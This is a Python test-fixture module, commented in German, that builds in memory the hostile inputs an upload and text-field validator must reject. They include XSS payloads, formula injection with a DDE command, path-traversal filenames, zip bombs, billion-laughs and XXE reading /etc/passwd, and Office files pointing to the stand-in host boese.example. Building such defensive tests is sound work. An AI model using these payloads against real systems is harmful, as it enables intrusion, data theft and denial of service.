"""Böses bauen: Nutzlasten für Textfelder und Dateien, die eine Wache abweisen muss.

Alles entsteht im Speicher; nichts hier liegt als Datei im Projekt.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from typing import Final

FREMD: Final = "boese.example"
"""Die Adresse, die keine Nutzlast je erreichen darf."""

NUTZLASTEN: Final = (
    "<script>alert('mut');window.__mut=1</script>",
    '<img src=x onerror="alert(2);window.__mut=2">',
    '<svg/onload="alert(3);window.__mut=3">',
    '<iframe srcdoc="<script>parent.__mut=4;alert(4)</script>"></iframe>',
    "\"'><script>alert(5);window.__mut=5</script>",
    "javascript:window.__mut=6;alert(6)",
    "[Klick](javascript:window.__mut=7)",
    "![Bild](https://boese.example/pixel.png)",
    '<a href="javascript:window.__mut=9">Klick</a>',
    ":material/delete: :red[rot] :streamlit: :material_home:",
    r"$\href{javascript:window.__mut=11}{x}$ $$\text{x}$$",
    "<style>*{background:url(https://boese.example/s)}</style>",
    '<form action="https://boese.example/f"><input name=kennwort><button>Weiter</button></form>',
    "{{constructor.constructor('window.__mut=14')()}} ${alert(14)} {% raw %}",
    "```mermaid\ngraph TD; A-->B; click A call alert()\n```",
    '<object data="https://boese.example/o"></object><embed src="https://boese.example/e">',
    '<details open ontoggle="alert(17);window.__mut=17"><summary>x</summary></details>',
    '<base href="https://boese.example/"><meta http-equiv=refresh content="0;url=https://boese.example/m">',
    "# Groß\n===\n| a | b |\n|---|---|\n| **fett** | ~~weg~~ |\n"
    "    code &lt;b&gt; &amp;\n[^1]: https://boese.example/ -> --",
)
"""Neunzehn Texte, die als HTML, Skript, Markdown, Formel oder Vorlage wirken würden."""

FORMELN: Final = (
    "=1+1",
    '=HYPERLINK("https://boese.example";"Klick")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "＝1+1",
    "'=1+1",
    " =1+1",
    "#NV!",
    "-",
    "-12,50",
    "+49 5132 505",
    'Akteur*innen; "quer"\nzweite Zeile',
)

DATEINAMEN: Final = (
    ("../../etc/passwd", "etc-passwd.docx"),
    ("..\\..\\windows\\win.ini", "windows-win-ini.docx"),
    ("/etc/shadow", "etc-shadow.docx"),
    ("bericht\u202excod.exe", "berichtxcod-exe.docx"),
    ("bericht\x00.exe", "bericht-exe.docx"),
    ("CON", "CON-datei.docx"),
    ("lpt1", "lpt1-datei.docx"),
    ("a\r\nSet-Cookie: x=1", "a-Set-Cookie-x-1.docx"),
    ("x" * 300, "x" * 120 + ".docx"),
    ("", "datei.docx"),
    ("...", "datei.docx"),
    ("Größe & Übergänge: „Süd“", "Groesse-Uebergaenge-Sued.docx"),
    ('-rf "<a|b>?*".html', "rf-a-b-html.docx"),
)
"""Dreizehn Namen und was daraus wird."""

_TYPEN: Final = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/{teil}" ContentType="{typ}"/>{mehr}</Types>'
)
_RELS: Final = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{0}</Relationships>'
)
_AMT: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_VND: Final = "application/vnd.openxmlformats-officedocument"
_HAUPT: Final = {
    "docx": ("word/document.xml", f"{_VND}.wordprocessingml.document.main+xml"),
    "dotx": ("word/document.xml", f"{_VND}.wordprocessingml.template.main+xml"),
    "xlsx": ("xl/workbook.xml", f"{_VND}.spreadsheetml.sheet.main+xml"),
    "docm": ("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
    "xlsm": ("xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
}


def zip_aus(teile: Mapping[str, bytes | str], *, gespeichert: tuple[str, ...] = ()) -> bytes:
    """Packt Teile in ein gewöhnliches Zip."""
    puffer = io.BytesIO()
    with zipfile.ZipFile(puffer, "w", zipfile.ZIP_DEFLATED) as zip_:
        for name, teil in teile.items():
            art = zipfile.ZIP_STORED if name in gespeichert else zipfile.ZIP_DEFLATED
            zip_.writestr(name, teil, compress_type=art)
    return puffer.getvalue()


def office_teile(art: str, *, typen: str = "", beziehungen: str = "") -> dict[str, bytes | str]:
    """Die kleinsten Teile einer Office-Datei; `typen` und `beziehungen` kommen dazu."""
    teil, typ = _HAUPT[art]
    ordner, _, name = teil.rpartition("/")
    return {
        "[Content_Types].xml": _TYPEN.format(teil=teil, typ=typ, mehr=typen),
        "_rels/.rels": _RELS.format(f'<Relationship Id="r1" Type="{_AMT}/officeDocument" Target="{teil}"/>'),
        teil: '<?xml version="1.0" encoding="UTF-8"?><inhalt/>',
        f"{ordner}/_rels/{name}.rels": _RELS.format(beziehungen),
    }


def office(art: str, mehr: Mapping[str, bytes | str] | None = None, **teile: str) -> bytes:
    """Eine kleine Office-Datei mit weiteren Teilen."""
    return zip_aus({**office_teile(art, **teile), **(mehr or {})})


def beziehung(typ: str, ziel: str, modus: str = ' TargetMode="External"') -> str:
    """Eine Beziehung nach außen."""
    return f'<Relationship Id="r9" Type="{_AMT}/{typ}" Target="{ziel}"{modus}/>'


def ods(mehr: Mapping[str, bytes | str] | None = None, inhalt: str = "<inhalt/>", manifest: str = "") -> bytes:
    """Eine kleine Calc-Datei."""
    ns = 'xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"'
    return zip_aus(
        {
            "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
            "content.xml": f'<?xml version="1.0" encoding="UTF-8"?>{inhalt}',
            "META-INF/manifest.xml": f"<m:manifest {ns}>{manifest}</m:manifest>",
            **(mehr or {}),
        },
        gespeichert=("mimetype",),
    )


# --- Bomben (F70) ----------------------------------------------------------------------------------------------------


def _blatt(zeilen: bytes, mehr: bytes = b"") -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?><worksheet><sheetData>'
        + zeilen
        + b"</sheetData>"
        + mehr
        + b"</worksheet>"
    )


def _mit_blatt(blatt: bytes) -> bytes:
    return office("xlsx", {"xl/worksheets/sheet1.xml": blatt})


def bombe_verhaeltnis() -> bytes:
    """Rund 60 kB, ausgepackt 39 MB."""
    return _mit_blatt(_blatt(b"<row/>" * (39 * 1024 * 1024 // 6)))


def bombe_teil() -> bytes:
    """Ein Teil von 50 MB."""
    return office("docx", {"word/gross.bin": b"\0" * (50 * 1024 * 1024)})


def bombe_summe() -> bytes:
    """Viele Teile, die zusammen 80 MB ergeben."""
    return office("docx", {f"word/t{n}.bin": b"ab" * (1024 * 1024) for n in range(40)})


def bombe_teile() -> bytes:
    """5.000 leere Teile."""
    return office("docx", {f"word/t{n}.xml": "<a/>" for n in range(5000)})


def bombe_verzeichnis() -> bytes:
    """Ein Zip-Verzeichnis mit 180.000 Einträgen auf denselben Teil; das Ende nennt aber nur zehn."""
    kopf = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, 0, 0, 1, 0) + b"a"
    eintrag = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    verzeichnis = eintrag * 180_000
    ende = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 10, 10, len(verzeichnis), len(kopf), 0)
    return kopf + verzeichnis + ende


def bombe_ueberlappung() -> bytes:
    """Hundert Einträge, die alle auf dieselben gepackten 500 kB zeigen (ohne Verschachtelung, nach Fifield)."""
    roh = bytes(range(256)) * 2000
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    gepackt = packer.compress(roh) + packer.flush()
    laenge, summe = len(gepackt), zlib.crc32(roh)
    kopf = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, summe, laenge, len(roh), 5, 0) + b"a.xml"
    verzeichnis = b"".join(
        struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, summe, laenge, len(roh), 5, 0, 0, 0, 0, 0, 0)
        + name
        for name in (f"{n:05}"[-5:].encode() for n in range(100))
    )
    rumpf = kopf + gepackt
    return rumpf + verzeichnis + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 100, 100, len(verzeichnis), len(rumpf), 0)


def bombe_gelogen() -> bytes:
    """Ein Teil, der 100 Bytes zu sein behauptet und 200 MB ist."""
    paket = bytearray(office("docx", {"word/gelogen.xml": b"<a>" + b" " * (200 * 1024 * 1024) + b"</a>"}))
    wahr, falsch = struct.pack("<L", 200 * 1024 * 1024 + 7), struct.pack("<L", 100)
    assert paket.count(wahr) == 2
    return bytes(paket.replace(wahr, falsch))


def bombe_verschachtelt() -> bytes:
    """Ein Zip im Zip im Zip, jede Ebene zehnfach."""
    innen = zip_aus({"a.bin": b"\0" * (5 * 1024 * 1024)})
    for _ in range(3):
        innen = zip_aus({f"{n}.zip": innen for n in range(10)})
    return office("docx", {"word/embeddings/alles.zip": innen})


def bombe_zeilen() -> bytes:
    """Viele Zeilen, die sich schlecht packen: 9 MB, ausgepackt über 60 MB."""
    zeilen = b"".join(b'<row r="%d"><c r="A%d" t="n"><v>%d</v></c></row>' % (n, n, n % 99) for n in range(1, 1_300_000))
    return _mit_blatt(_blatt(zeilen))


def bombe_verbund() -> bytes:
    """Ein verbundener Bereich über das ganze Blatt: Leser legen für jede Zelle etwas an."""
    return _mit_blatt(_blatt(b"", b'<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'))


def bombe_ecke() -> bytes:
    """Eine Zelle in der letzten Ecke: wer alle Zellen durchgeht, geht durch 17 Milliarden."""
    return _mit_blatt(_blatt(b'<row r="1"><c r="A1"/></row><row r="1048576"><c r="XFD1048576"/></row>'))


def bombe_lachen() -> bytes:
    """Eine Milliarde Lacher: Entitäten, die sich vervielfachen."""
    ebenen = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    xml = f'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY l0 "lol">{ebenen}]><l>&l9;</l>'
    return office("xlsx", {"xl/sharedStrings.xml": xml})


def groesste() -> bytes:
    """Keine Bombe: zwei Blätter mit zusammen 58 MB, die gerade noch alle Grenzen einhalten."""
    zelle = b'<c r="%s%d" t="n"><v>%d</v></c>'
    zeilen = b"".join(
        b'<row r="%d">' % n + b"".join(zelle % (s, n, n % 9) for s in (b"A", b"B", b"C", b"D", b"E", b"F")) + b"</row>"
        for n in range(1, 99_999)
    )
    return office("xlsx", {f"xl/worksheets/sheet{n}.xml": _blatt(zeilen + b" " * 8_000_000) for n in (1, 2)})


BOMBEN: Final[Mapping[str, Callable[[], bytes]]] = {
    name.removeprefix("bombe_"): wert for name, wert in list(globals().items()) if name.startswith("bombe_")
}


# --- XML (F71) und falsche Arten (F72) -------------------------------------------------------------------------------


def _xxe(kodierung: str, deklariert: str) -> bytes:
    xml = (
        f'<?xml version="1.0" encoding="{deklariert}"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    )
    return xml.encode(kodierung)


XML_ANGRIFFE: Final[Mapping[str, bytes]] = {
    "XXE in document.xml": office("docx", {"word/document.xml": _xxe("utf-8", "UTF-8")}),
    "DTD von außen": office("docx", {"word/styles.xml": '<!DOCTYPE a SYSTEM "https://boese.example/a.dtd"><a/>'}),
    "XXE in den Beziehungen": office("xlsx", {"xl/_rels/workbook.xml.rels": _xxe("utf-8", "UTF-8")}),
    "UTF-16 mit BOM": office("docx", {"word/settings.xml": _xxe("utf-16", "UTF-16")}),
    "UTF-16 im customXml": office("docx", {"customXml/item1.xml": _xxe("utf-16", "UTF-16")}),
    "UTF-16-BE ohne BOM": office("docx", {"customXml/item1.xml": _xxe("utf-16-be", "UTF-16")}),
    "UTF-7": office("docx", {"word/settings.xml": _xxe("utf-7", "UTF-7")}),
    "UTF-7 im customXml": office(
        "docx", {"customXml/item1.xml": b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-<a/>'}
    ),
    "EBCDIC": office("docx", {"word/settings.xml": _xxe("cp037", "cp037")}),
    "UTF-32": office("docx", {"customXml/item1.xml": _xxe("utf-32", "UTF-32")}),
    "Entität über die Stückgrenze": office(
        "docx", {"word/a.xml": b"<a>" + b"".join(b"%06d " % n for n in range(37449)) + b"<!DOCTYPE a><b/></a>"}
    ),
    "in ODS": ods(inhalt='<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'),
}

_OLE: Final = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600


def _verschluesselt() -> bytes:
    paket = bytearray(office("docx"))
    paket[6] |= 1
    paket[paket.index(b"PK\x01\x02") + 8] |= 1
    return bytes(paket)


def _doppelt() -> bytes:
    return office("docx", {"word/a.xml": "<a/>", "word/b.xml": "<b/>"}).replace(b"word/b.xml", b"word/A.xml")


FALSCHE: Final[Mapping[str, tuple[str, bytes]]] = {
    "leer": ("a.docx", b""),
    "zu groß": ("a.csv", b"a;b\n" * (3 * 1024 * 1024)),
    "xlsm": ("a.xlsm", office("xlsm")),
    "xlsm als xlsx": ("a.xlsx", office("xlsm")),
    "docm als docx": ("a.docx", office("docm")),
    "vbaProject.bin": ("a.docx", office("docx", {"word/vbaProject.bin": b"x"})),
    "vbaProject groß": ("a.docx", office("docx", {"word/VBAPROJECT.BIN": b"x"})),
    "Makroblatt": ("a.xlsx", office("xlsx", {"xl/macrosheets/sheet1.xml": "<a/>"})),
    "Makro in ODS": ("a.ods", ods({"Basic/Standard/Modul.xml": "<a/>"})),
    "ActiveX": ("a.docx", office("docx", {"word/activeX/activeX1.xml": "<a/>"})),
    "eingebettetes Objekt": ("a.docx", office("docx", {"word/embeddings/oleObject1.bin": b"x"})),
    "Steuerelement": ("a.docx", office("docx", beziehungen=beziehung("control", "x.xml", ""))),
    "fremde Vorlage": ("a.docx", office("docx", beziehungen=beziehung("attachedTemplate", "https://boese.example/t"))),
    "fremdes Bild": ("a.docx", office("docx", beziehungen=beziehung("image", "https://boese.example/b.png"))),
    "Dateifreigabe": ("a.docx", office("docx", beziehungen=beziehung("image", "\\\\boese.example\\b.png", ""))),
    "fremde Mappe": ("a.xlsx", office("xlsx", {"xl/externalLinks/externalLink1.xml": "<ddeLink/>"})),
    "Datenverbindung": ("a.xlsx", office("xlsx", {"xl/connections.xml": "<a/>"})),
    "DDE in ODS": ("a.ods", ods(inhalt='<a><office:dde-source office:dde-application="cmd"/></a>')),
    "fremdes Bild in ODS": ("a.ods", ods(inhalt='<a><draw:image xlink:href="https://boese.example/b"/></a>')),
    "Skript in ODS": ("a.ods", ods(inhalt='<a><script:event-listener xlink:href="x"/></a>')),
    "altes Excel": ("a.xls", _OLE),
    "altes Excel als xlsx": ("a.xlsx", _OLE),
    "Office mit Kennwort": ("a.xlsx", _OLE + "EncryptedPackage".encode("utf-16-le")),
    "Zip mit Kennwort": ("a.docx", _verschluesselt()),
    "ODS mit Kennwort": ("a.ods", ods(manifest="<m:file-entry><m:encryption-data/></m:file-entry>")),
    "Programm als docx": ("a.docx", b"MZ\x90\0" + b"\0" * 500),
    "Programm als csv": ("a.csv", b"MZ\x90\0" + b"\0" * 500),
    "Webseite als csv": ("a.csv", b" <html><script>alert(1)</script>"),
    "RTF als docx": ("a.docx", b"{\\rtf1 x}"),
    "PDF als csv": ("a.csv", b"%PDF-1.7\n"),
    "Nullen in csv": ("a.csv", b"a;b\n\0\0\0\n"),
    "gewöhnliches Zip": ("a.docx", zip_aus({"a.txt": "x"})),
    "Programm vor dem Zip": ("a.docx", b"MZ\x90\0" * 10 + office("docx")),
    "Anhang nach dem Zip": ("a.docx", office("docx") + b"<script>alert(1)</script>"),
    "halbes Zip": ("a.docx", office("docx")[:-40]),
    "Aufstieg im Namen": ("a.docx", office("docx", {"../../etc/cron.d/x": "x"})),
    "absoluter Name": ("a.docx", office("docx", {"/etc/passwd": "x"})),
    "Laufwerk im Namen": ("a.docx", office("docx", {"C:/x": "x"})),
    "Rückstrich im Namen": ("a.docx", office("docx", {"word\\..\\..\\x": "x"})),
    "doppelter Name": ("a.docx", _doppelt()),
    "Zip als fremde Art": ("a.docx", office("xlsx")),
    "falsche Endung": ("a.exe", office("docx")),
    "fremder Inhaltstyp": (
        "a.docx",
        office("docx", typen='<Override PartName="/w/x" ContentType="application/vnd.ms-office.activeX+xml"/>'),
    ),
}
"""Name und Inhalt von Dateien, die abgewiesen werden müssen."""

HARMLOSE: Final[Mapping[str, tuple[str, bytes]]] = {
    "docx": ("Bericht.DOCX", office("docx", beziehungen=beziehung("hyperlink", "https://www.lehrte.de"))),
    "dotx": (
        "Vorlage.dotx",
        office("dotx", {"customXml/item1.xml": '<?xml version="1.0" encoding="utf-16"?><a/>'.encode("utf-16")}),
    ),
    "xlsx": (
        "Maßnahmen.xlsx",
        _mit_blatt(_blatt(b'<row r="99999"><c r="ZZ99999"/></row>', b'<mergeCell ref="A1:C2"/>')),
    ),
    "ods": ("Maßnahmen.ods", ods(inhalt='<a><text:a xlink:href="https://www.lehrte.de"/></a>')),
    "csv": ("Maßnahmen.csv", "Nr.;Titel\r\n1;Größe\r\n".encode("cp1252")),
    "csv mit BOM": ("a.csv", "Nr.;Titel\n".encode("utf-8-sig")),
    "csv in UTF-16": ("a.csv", "Nr.;Titel\n".encode("utf-16")),
}
